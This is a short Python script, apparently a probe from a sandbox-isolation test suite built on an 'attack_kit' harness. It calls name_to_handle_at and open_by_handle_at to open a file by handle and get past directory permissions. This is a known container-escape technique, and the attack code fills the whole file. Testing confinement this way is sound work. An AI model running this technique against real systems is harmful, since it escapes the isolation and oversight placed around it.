"""Opens a file by its handle, which no folder's mode guards."""

from __future__ import annotations

import ctypes

from attack_kit import Attack

with Attack() as attack:
    handle = ctypes.create_string_buffer(b"\x80\0\0\0\1\0\0\0", 136)
    mount = ctypes.create_string_buffer(4)
    attack.reach("name_to_handle_at", -100, b"/usr\0", handle, mount, 0)
    attack.reach("open_by_handle_at", -100, handle, 0)
